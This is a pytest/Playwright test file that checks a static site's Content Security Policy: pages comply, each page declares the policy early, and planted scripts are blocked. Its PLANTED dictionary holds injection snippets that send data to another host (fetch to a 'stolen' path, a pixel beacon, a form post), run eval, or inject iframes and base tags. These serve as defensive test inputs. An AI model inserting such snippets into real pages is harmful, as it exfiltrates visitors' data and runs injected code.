"""The content security policy: pages comply with it, and the browser stops what is planted."""

from __future__ import annotations

import pytest

from tests.site.reader import FIRST, PAGES

WATCH = """
window.broken = [];
addEventListener("securitypolicyviolation", (event) =>
  window.broken.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""
# Talks and the search are gone through with the policy in force.
ONE_OF_EACH_TYPE = [
    *("index.html", FIRST, "pages/glossary.html", "pages/your_table.html"),
    *("404.html", "embed/waves.html"),
]


@pytest.fixture
def page(browser):
    context = browser.new_context()
    context.add_init_script(WATCH)
    yield context.new_page()
    context.close()


@pytest.mark.parametrize("path", ONE_OF_EACH_TYPE)
def test_a_page_of_each_type_complies_with_its_policy(path, page, book_url):
    page.goto(f"{book_url}/{path}", wait_until="load")
    page.evaluate("window.scrollTo(0, document.body.scrollHeight)")
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.broken") == []


def test_every_page_has_a_policy_before_its_first_script(book_html):
    for path in PAGES:
        page = (book_html / path).read_text(encoding="utf-8")
        assert 'http-equiv="Content-Security-Policy"' in page.partition("<script")[0], path


PLANTED = {
    "connect-src": "fetch('URL/stolen').catch(() => {})",
    "img-src": "new Image().src = 'URL/pixel.png'",
    "style-src-elem": "add('link', { rel: 'stylesheet', href: 'URL/x.css' })",
    "script-src-elem": "add('script', { text: 'window.ran = true' })",
    "script-src": "try { eval('window.ran = true') } catch {}",
    "script-src-attr": "document.body.setAttribute('onclick', 'window.ran = true'),"
    " document.body.click()",
    "form-action": "add('form', { action: 'URL/form', method: 'post' }).submit()",
    "frame-src": "add('iframe', { src: 'URL/frame' })",
    "base-uri": "add('base', { href: 'URL/' })",
}


def test_what_is_planted_is_blocked(page, book_url, other_host):
    address, asked = other_host
    page.goto(f"{book_url}/pages/glossary.html")
    for script in PLANTED.values():
        planted = script.replace("URL", address)
        page.evaluate(
            "() => { const add = (name, parts) => document.body.appendChild("
            "Object.assign(document.createElement(name), parts));"
            f" setTimeout(() => {{ {planted} }}); }}"
        )
    page.wait_for_timeout(500)  # playwright's own waiting breaks the policy
    assert {*PLANTED} <= {line.split()[0] for line in page.evaluate("window.broken")}
    assert not page.evaluate("window.ran")
    assert asked == []
